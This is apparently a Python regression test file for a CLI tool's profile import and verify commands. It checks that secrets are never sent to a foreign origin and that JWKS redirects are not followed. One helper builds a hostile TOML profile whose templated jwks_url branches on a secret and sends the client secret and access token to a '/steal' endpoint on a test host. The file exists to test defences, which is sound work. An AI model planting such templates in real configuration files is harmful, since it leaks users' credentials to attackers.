"""Issue 17 items 1 and 16: where a request goes is checked when it is sent, and nothing follows
a redirect.

An untrusted profile file whose `[override.token] jwks_url` branched on a secret's value passed
the import check (rendered with placeholder secrets, it named the own origin); Verify then
rendered it with the real secret and fetched it, redirects followed, with no origin check: a
listener elsewhere received `GET /steal?s=<client secret>&t=<access token>`.
"""

from __future__ import annotations

from tests.hostile.conftest import fake_jwt
from tests.hostile.server import Reply

SECRET = "client-secret-value-0123456789"
API_KEY = "api-key-value-abcdef"


def _mint(provider) -> None:
    provider.route("/authenticate", Reply.json({"token": fake_jwt({"sub": "me"}, secret=SECRET)}))


def _stealing_file(tmp_path, provider, elsewhere):
    branch = (
        "{% if secrets.client_secret == 'placeholder' %}{{ origin }}/.well-known/jwks.json"
        f"{{% else %}}{elsewhere.url}/steal?s={{{{ secrets.client_secret }}}}"
        "&t={{ secrets.access_token }}{% endif %}"
    )
    path = tmp_path / "shared.toml"
    path.write_text(
        'name = "shared"\npreset = "api-key-sliding"\n'
        f'base_url = "{provider.url}"\nsecret_names = ["api_key", "client_secret"]\n\n'
        f"[override.token]\njwks_url = '''{branch}'''\n"
    )
    return path


def _set_secrets(cli, tmp_path, name):
    (tmp_path / "k").write_text(API_KEY)
    (tmp_path / "s").write_text(SECRET)
    run = cli(
        "profile",
        "set",
        name,
        "--secret",
        f"api_key=@{tmp_path / 'k'}",
        "--secret",
        f"client_secret=@{tmp_path / 's'}",
    )
    assert run.returncode == 0, run.stderr


def test_import_refuses_a_url_template_that_reads_a_secret_without_trust(cli, tmp_path, provider, elsewhere):
    path = _stealing_file(tmp_path, provider, elsewhere)
    run = cli("profile", "import", str(path))
    line = run.error_line()
    assert "secret" in line and "--trust" in line, line
    assert cli("profile", "list").stdout.count("shared") == 0


def test_verify_never_sends_to_another_origin_even_from_a_trusted_file(
    cli, in_engine, tmp_path, provider, elsewhere
):
    _mint(provider)
    path = _stealing_file(tmp_path, provider, elsewhere)
    assert cli("profile", "import", str(path), "--trust").returncode == 0
    _set_secrets(cli, tmp_path, "shared")
    outcome = in_engine("ctx.engine.verify_local('shared')")
    assert elsewhere.seen == [], [(s.path, s.query) for s in elsewhere.seen]
    assert outcome["ok"] is False
    assert "not sending" in str(outcome["error"]) and SECRET not in str(outcome["error"])


def test_verify_does_not_follow_a_jwks_redirect_to_another_origin(
    cli, in_engine, tmp_path, provider, elsewhere, add_profile
):
    _mint(provider)
    provider.route("/jwks-moved", Reply.redirect(elsewhere.url + "/jwks.json"))
    elsewhere.route("/jwks.json", Reply.json({"keys": []}))
    path = tmp_path / "moved.toml"
    path.write_text(
        'name = "moved"\npreset = "api-key-sliding"\n'
        f'base_url = "{provider.url}"\nsecret_names = ["api_key", "client_secret"]\n\n'
        "[override.token]\njwks_url = '{{ origin }}/jwks-moved'\n"
    )
    assert cli("profile", "import", str(path)).returncode == 0
    _set_secrets(cli, tmp_path, "moved")
    outcome = in_engine("ctx.engine.verify_local('moved')")
    assert elsewhere.seen == []
    assert outcome["ok"] is False and "redirect" in str(outcome["error"]), outcome


def test_decode_jwks_does_not_follow_a_redirect(cli, provider, elsewhere):
    provider.route("/jwks.json", Reply.redirect(elsewhere.url + "/jwks.json"))
    elsewhere.route("/jwks.json", Reply.json({"keys": []}))
    run = cli("decode", fake_jwt(), "--jwks", provider.url + "/jwks.json")
    line = run.error_line()
    assert elsewhere.seen == []
    assert "redirect" in line, line
